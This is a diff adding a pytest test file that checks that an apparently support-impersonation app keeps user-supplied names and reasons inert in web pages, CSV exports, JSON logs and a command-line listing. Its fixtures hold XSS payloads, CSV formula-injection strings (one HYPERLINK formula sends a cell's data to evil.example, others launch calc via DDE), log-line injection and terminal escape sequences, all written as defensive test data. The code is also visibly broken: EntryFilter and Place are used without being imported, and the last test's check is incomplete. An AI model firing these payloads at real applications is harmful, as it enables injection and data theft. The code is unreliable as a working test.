@@ -1,0 +1,169 @@
+"""Text that wants to be more than text: markup, formulas, lines of a log, a terminal's commands
+(T7, T8). The dashboard's part is tried in a browser, with the acceptance tests."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+from collections.abc import Iterator
+from html.parser import HTMLParser
+from pathlib import Path
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from tests.integration.abuse.stack import Stack
+from tests.integration.proof.place import settle
+from tests.integration.proof.process import Service, command
+from understudy.core.permissions import Role
+from understudy.core.policy import is_plain_text
+
+MARKUP = (
+    "<script>alert(1)</script>",
+    "</understudy-banner><img src=x onerror=alert(1)>",
+    '"><svg onload=alert(1)>',
+    "' autofocus onfocus='alert(1)",
+    "</b></div><iframe srcdoc='<script>alert(1)</script>'>",
+    "<!--><script>alert(1)//-->",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "javascript:alert(1)",
+    "{{constructor.constructor('alert(1)')()}}",
+    "${alert(1)} `${alert(1)}` <%= alert(1) %>",
+)
+FORMULAS = (
+    '=HYPERLINK("http://evil.example?"&A1,"Error")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1 behind a tab, long enough",
+    "＝1+1 in full width, long enough",
+    '"; =1+1; " quoted, long enough',
+)
+LINES = (
+    "a reason\n2026-11-22T09:30:00Z session.ended ok",
+    "a reason\r\nSet-Cookie: a=b",
+    'a reason"}\n{"type":"session.ended","outcome":"ok"',
+    "a reason\u2028{}\u2029{}",
+    "CEF:0|Understudy|x|1|y|z|9|act=a\\=b reason",
+)
+
+
+class Elements(HTMLParser):
+    """The elements of a page, with their attributes."""
+
+    def __init__(self, html: str) -> None:
+        super().__init__()
+        self.found: list[tuple[str, dict[str, str | None]]] = []
+        self.feed(html)
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.found.append((tag, dict(attrs)))
+
+
+def padded(text: str) -> str:
+    """Long enough for a reason."""
+    return f"{text} {'x' * 10}" if len(text.strip()) < 10 else text
+
+
+@pytest.mark.parametrize("payload", MARKUP)
+def test_t7_names_and_reasons_stay_text_in_the_apps_pages(stack: Stack, payload: str) -> None:
+    stack.save_subject(id="bob", name=payload, email="a@b", organization_id="acme")
+    harmless = stack.open(subject_id="bob", actor={"id": "kim", "name": "Kim"})
+    opened = stack.open(
+        subject_id="bob", reason=padded(payload), ticket=payload, actor={"id": "k", "name": payload}
+    )
+    stack.save_subject(id="bob", email="bob@acme.example", organization_id="acme")
+    pages = []
+    for one in (harmless, opened):
+        kim = stack.overlaid(stack.visitor(), one)
+        kim.page()
+        pages += [kim.page(), kim.open(f"{stack.app_url}/_understudy/end")]
+        pages += [kim.submit(f"{stack.app_url}/settings/password")]
+    plain, hostile = pages[:3], pages[3:]
+    for before, after in zip(plain, hostile, strict=True):
+        assert shape(before.text) == shape(after.text)
+        assert payload.replace("&lt;", "") not in after.text or "<" not in payload
+    banner = next(attrs for tag, attrs in Elements(hostile[0].text).found if "banner" in tag)
+    assert banner["data-reason"] == padded(payload)
+
+
+def shape(html: str) -> list[tuple[str, list[str]]]:
+    """What a page is made of, whatever is written in it."""
+    return [
+        (tag, sorted(name for name in attrs if name != "data-ticket"))
+        for tag, attrs in Elements(html).found
+    ]
+
+
+@pytest.mark.parametrize("payload", FORMULAS)
+def test_t7_an_export_opens_inert_in_a_spreadsheet(stack: Stack, payload: str) -> None:
+    opened = stack.open(reason=payload, actor={"id": payload.strip(), "name": payload})
+    kim = stack.overlaid(stack.visitor(), opened)
+    assert kim.app("POST", "/orders", headers={"user-agent": payload.encode()}).is_success
+    rows = exported(stack, opened["session"]["id"])
+    assert {row["reason"] for row in rows if row["reason"]} == {f"'{payload.strip()}"} or (
+        payload.strip()[0] not in "=+-@＝"
+    )
+    for row in rows:
+        for name, cell in row.items():
+            assert not cell.lstrip().startswith(tuple("=+-@\t\r＝＋－＠")), (name, cell)  # noqa: RUF001
+
+
+def exported(stack: Stack, session_id: str) -> list[dict[str, str]]:
+    """The rows of a CSV export about one session."""
+    email = f"auditor-{session_id.lower()}@support.example"
+    auditor = stack.operator(Role.AUDITOR, email=email)[1]
+    url = f"{stack.issuer}/api/v1/audit/export?format=csv&session_id={session_id}"
+    answer = auditor.call("GET", url)
+    assert answer.headers["x-content-type-options"] == "nosniff"
+    assert answer.headers["content-type"].startswith("text/csv")
+    return list(csv.DictReader(io.StringIO(answer.text, newline="")))
+
+
+plain_text = st.text(min_size=10, max_size=60).filter(
+    lambda text: is_plain_text(text) and len(text.strip()) >= 10
+)
+
+
+@settings(max_examples=25, suppress_health_check=[HealthCheck.too_slow])
+@given(reason=st.one_of(st.sampled_from(LINES), plain_text))
+def test_t8_one_event_is_one_line_with_the_same_facts(stack: Stack, reason: str) -> None:
+    body = {"subject_id": "ada", "reason": reason, "ticket": "T-1"}
+    with stack.backend() as backend:
+        asked = backend.post("/impersonations", json={**body, "actor": {"id": "kim"}})
+    assert asked.status_code == (201 if is_plain_text(reason.strip()) else 403)
+    header, *lines = log_lines(stack)
+    entries = stack.entries()
+    assert json.loads(header)["format"] == "understudy-audit-export/1"
+    assert [json.loads(line)["index"] for line in lines] == list(range(len(entries)))
+    told = json.loads(json.loads(lines[-1])["personal"])
+    if asked.status_code == 201:
+        assert (told["reason"], told["ticket"]) == (reason.strip(), "T-1")
+    else:
+        assert "\r" not in told["reason"]
+
+
+def log_lines(stack: Stack) -> list[str]:
+    """The lines of an NDJSON export of the log as it was before anybody asked for it."""
+    number = len(stack.entries())
+    lines = b"".join(stack.engine.export("ndjson", EntryFilter())).split(b"\n")
+    assert lines.pop() == b""
+    return [line.decode() for line in lines[: number + 1]]
+
+
+def test_t8_the_command_line_shows_one_event_on_one_line(stack: Stack) -> None:
+    evil = "\x1b[2J\x1b[31m\x07\x9b0m\u202e"
+    with stack.backend() as backend:
+        for reason in ("a reason\n0  2026-11-22  session.ended", "a reason\u2028of two lines"):
+            actor = {"id": "kim", "name": f"Kim {evil}", "email": f"{evil}@shop.example"}
+            body = {"subject_id": "ada", "reason": reason, "actor": actor}
+            answer = backend.post("/impersonations", json=body)
+            assert answer.status_code == 201, answer.text
+            token = answer.json()["impersonation_token"]
+            assert stack.exchange(token).status_code == 200
+    place = Place.of(stack)
+    for words in (("audit", "list"), ("sessions", "list")):
+        shown = command(*words, stack=stack)
+    assert shown
